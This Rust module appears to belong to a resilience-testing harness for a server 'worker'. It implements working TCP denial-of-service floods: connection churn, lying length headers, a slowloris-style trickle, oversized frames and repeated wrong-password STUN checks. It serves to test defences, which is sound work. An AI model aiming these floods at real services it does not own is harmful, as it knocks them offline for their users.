//! Floods without a session, over TCP.

use std::collections::VecDeque;
use std::io::{ErrorKind, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use socket2::SockRef;

use crate::attack::{Outcome, Result, Stop, Target};
use crate::wire::check;

/// Connections that are held open: more than the worker accepts.
const CONNECTIONS: usize = 300;

/// The longest frame that the worker does not reject by its length.
const LONG_FRAME: u16 = 16 * 1024;

pub(crate) fn attack(kind: &str, target: &Target, stop: &Stop) -> Result<Outcome> {
    match kind {
        "tcp-connects" => connects(target, stop, &[]),
        "tcp-lies" => connects(target, stop, &u16::MAX.to_be_bytes()),
        "tcp-slow" => hold(target, stop, &Trickle),
        "tcp-empty" => hold(target, stop, &Frames(vec![0; 64 * 1024])),
        "tcp-stun" => {
            let known = target.username_fragment.as_deref().unwrap_or("unknown");
            let check = check(known, "the password of another agent");
            let mut frame = (check.len() as u16).to_be_bytes().to_vec();
            frame.extend(check);
            hold(target, stop, &Frames(frame.repeat(500)))
        }
        other => Err(format!("unknown kind of attack {other:?}").into()),
    }
}

/// Opens connections, writes a few bytes and closes them. Counts connections.
fn connects(target: &Target, stop: &Stop, bytes: &[u8]) -> Result<Outcome> {
    let mut sent = 0;
    while !stop.is_set() {
        let Ok(mut stream) = connect(target) else { continue };
        // Ignores the error: the worker may have closed the connection already.
        let _ = stream.write(bytes);
        sent += 1;
    }
    Ok(Outcome { sent, ended: false })
}

/// The bytes that a connection writes while it stays open.
trait Content {
    /// Writes what follows the first `written` bytes. Returns the number of bytes that the kernel took.
    fn write(&self, stream: &mut TcpStream, written: usize) -> std::io::Result<usize>;
}

/// A long frame, byte by byte, that never ends.
struct Trickle;

impl Content for Trickle {
    fn write(&self, stream: &mut TcpStream, written: usize) -> std::io::Result<usize> {
        match written {
            0 => stream.write(&LONG_FRAME.to_be_bytes()),
            // Writes all but the last byte, which would complete the frame.
            1.. if written < usize::from(LONG_FRAME) => stream.write(&[1]),
            _ => Err(ErrorKind::WouldBlock.into()),
        }
    }
}

/// Whole frames, as many as the kernel takes.
struct Frames(Vec<u8>);

impl Content for Frames {
    fn write(&self, stream: &mut TcpStream, written: usize) -> std::io::Result<usize> {
        stream.write(&self.0[written % self.0.len()..])
    }
}

/// Keeps connections open, and replaces those that the worker closes. Counts bytes.
fn hold(target: &Target, stop: &Stop, content: &impl Content) -> Result<Outcome> {
    let mut held: VecDeque<(TcpStream, usize)> = VecDeque::new();
    let mut sent = 0;
    let mut next = Instant::now();
    while !stop.is_set() {
        if held.len() < CONNECTIONS && next <= Instant::now() {
            match connect(target) {
                Ok(stream) => held.push_back((stream, 0)),
                Err(_) => next = Instant::now() + Duration::from_millis(10),
            }
        }
        for _ in 0..held.len() {
            let Some((mut stream, written)) = held.pop_front() else { break };
            match content.write(&mut stream, written) {
                Ok(len) => {
                    sent += len as u64;
                    held.push_back((stream, written + len));
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    held.push_back((stream, written));
                }
                Err(_) => {}
            }
        }
    }
    Ok(Outcome { sent, ended: false })
}

/// A connection that closes with a reset, and leaves no port in TIME_WAIT.
fn connect(target: &Target) -> Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&target.address(), Duration::from_millis(100))?;
    stream.set_nonblocking(true)?;
    stream.set_nodelay(true)?;
    SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
    Ok(stream)
}
